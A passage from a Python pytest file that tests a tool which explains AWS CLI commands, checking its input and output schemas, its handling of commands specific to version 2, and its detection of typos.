    assert INPUT_SCHEMA["properties"]["command"]["maxLength"] == MAX_COMMAND_LENGTH
    assert set(OUTPUT_SCHEMA["required"]) == CONTRACT_KEYS
    out = explain("aws s3api put-object --bucket b --key k")
    assert set(out) <= set(OUTPUT_SCHEMA["properties"])
    json.dumps(INPUT_SCHEMA)
    json.dumps(OUTPUT_SCHEMA)


@pytest.mark.parametrize(
    "command", ["aws sso login --profile dev", "aws configure sso", "aws logs tail my-group"]
)
def test_version_2_only_commands_are_named_not_rejected(command):
    result = explain_command(parse_input({"command": command}))
    assert result.valid and result.errors == ()
    assert any("version 2 of the AWS CLI" in note for note in result.notes)


def test_a_typo_after_a_version_2_service_is_still_an_error():
    result = explain_command(parse_input({"command": "aws sso logn"}))
    assert not result.valid
